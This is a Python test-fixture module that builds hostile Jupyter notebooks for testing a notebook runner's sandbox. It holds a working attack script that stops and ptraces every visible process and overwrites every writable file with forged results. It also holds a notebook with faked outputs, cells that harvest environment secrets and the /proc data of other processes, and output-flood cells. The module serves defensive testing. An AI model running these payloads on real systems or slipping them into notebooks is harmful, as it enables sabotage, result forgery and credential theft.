"""Notebooks that attack the runner from inside, shared by the runner's and verify_notebook's tests."""

import json

import nbformat
from nbformat.v4 import new_code_cell, new_notebook, new_output

# A process the notebook starts, as hostile as it can be from inside: it stops every process it can see, writes
# the submitted notebook (and a "completed" status) over every file it can write and into every writable folder,
# tries to ptrace every process, resumes them, and again, until the sandbox ends. It keeps a tally in REPORT
# (attack-report.json in the working directory, which it inherits from the kernel that starts it).
ATTACK = r'''
import ctypes, json, os, signal, sys, time
REPORT = os.path.join(os.getcwd(), "attack-report.json")

PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
me = os.getpid()
submitted = open(sys.argv[1], "rb").read()
forged_status = json.dumps({"outcome": "completed"}).encode()
report = {"stopped": 0, "ptrace_attempts": 0, "ptrace_attached": 0, "written": 0, "dirs": []}

def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]

writable = []
for root, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/usr")]
    if os.access(root, os.W_OK):
        writable.append(root)
report["dirs"] = writable

def forge():
    for folder in writable:
        try:
            names = set(os.listdir(folder))
        except OSError:
            continue
        for name in names | {"executed.ipynb", "status.json"}:
            path = os.path.join(folder, name)
            if path.startswith(REPORT) or os.path.isdir(path):
                continue
            try:  # without blocking on a pipe nobody reads (/dev/stdin)
                descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC | os.O_NONBLOCK, 0o644)
            except OSError:
                continue
            try:
                os.write(descriptor, forged_status if name.endswith(".json") else submitted)
                report["written"] += 1
            except OSError:
                pass
            finally:
                os.close(descriptor)

def ptrace(pid):
    report["ptrace_attempts"] += 1
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return
    report["ptrace_attached"] += 1
    for _ in range(100):
        try:
            if os.waitpid(pid, os.WNOHANG | WALL)[0]:
                break
        except OSError:
            break
        time.sleep(0.005)
    libc.ptrace(PTRACE_DETACH, pid, None, None)

traced = set()
end = time.time() + 60
while time.time() < end:
    pids = others()
    for pid in pids:
        try:
            os.kill(pid, signal.SIGSTOP)
            report["stopped"] += 1
        except OSError:
            pass
    forge()
    for pid in set(pids) - traced:
        traced.add(pid)
        ptrace(pid)
    for pid in pids:
        try:
            os.kill(pid, signal.SIGCONT)
        except OSError:
            pass
    with open(REPORT + ".part", "w") as handle:
        json.dump(report, handle)
    os.replace(REPORT + ".part", REPORT)
    time.sleep(0.002)
'''

CLAIMED_RANDOM_NUMBER = "0.8444218515250481"


def forging_notebook(name: str) -> str:
    """A notebook that prints an unseeded random number and raises, uploaded with outputs claiming every cell ran
    and printed a number no fresh run will print again; its first cell starts the attack (reading the notebook's
    own file, `name`, in the working directory, to write it everywhere)."""
    start_attack = (f"ATTACK = {ATTACK!r}\n"
                    "import subprocess, sys, time\nopen('/tmp/attack.py', 'w').write(ATTACK)\n"
                    f"subprocess.Popen([sys.executable, '/tmp/attack.py', {name!r}], start_new_session=True,\n"
                    "                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
                    "time.sleep(2)\nprint('started')")
    sources = [start_attack, "import random\nprint(random.random())",
               "raise RuntimeError('this notebook does not run')"]
    claimed = ["started\n", f"{CLAIMED_RANDOM_NUMBER}\n", None]
    notebook = new_notebook(metadata={"kernelspec": {"name": "python3", "display_name": "Python 3",
                                                     "language": "python"}})
    for count, (source, text) in enumerate(zip(sources, claimed, strict=True), 1):
        outputs = [new_output("stream", name="stdout", text=text)] if text else []
        notebook.cells.append(new_code_cell(source, execution_count=count, outputs=outputs))
    return nbformat.writes(notebook)


def attack_report(workdir) -> dict:
    return json.loads((workdir / "attack-report.json").read_text())


# What a worker holds that a notebook must never see, set in the worker's environment by the secret-probe tests.
WORKER_SECRETS = {"SECRET_KEY": "django-secret-4f1c9e", "DATABASE_URL": "postgres://nbarchive:pw-7d2a@db/nbarchive",
                  "AWS_SECRET_ACCESS_KEY": "s3-secret-9b8e"}

# Cells that print everything of the worker a kernel could reach: its own environment, the connection file it was
# started with, and the environment and command line of every process it can see in /proc.
SECRET_PROBE_CELLS = [
    "import os\nprint(sorted(os.environ.items()))",
    "import sys\nconnection_file = sys.argv[sys.argv.index('-f') + 1]\nprint(open(connection_file).read())",
    "import os\nfor pid in [p for p in os.listdir('/proc') if p.isdigit()]:\n"
    "    for name in ('environ', 'cmdline'):\n        try:\n"
    "            print(pid, name, open(f'/proc/{pid}/{name}', 'rb').read())\n"
    "        except OSError as exc:\n            print(pid, name, exc)",
]


def expanding_output_cell(megabytes: int) -> str:
    """A cell whose one output is under `megabytes` on the wire but expands about sixteen-fold when read: a JSON
    list of empty objects, four bytes each in the message ("{}, ") and a 64-byte dict each in the collector."""
    count = megabytes * 1024 * 1024 // 4 - 1000
    return f"from IPython.display import display\ndisplay({{'application/json': [{{}}] * {count}}}, raw=True)"


# A cell that floods the kernel protocol with small messages until the output cap stops it.
SMALL_MESSAGE_FLOOD = "from IPython.display import display\nfor i in range(10**7):\n    display(i)"
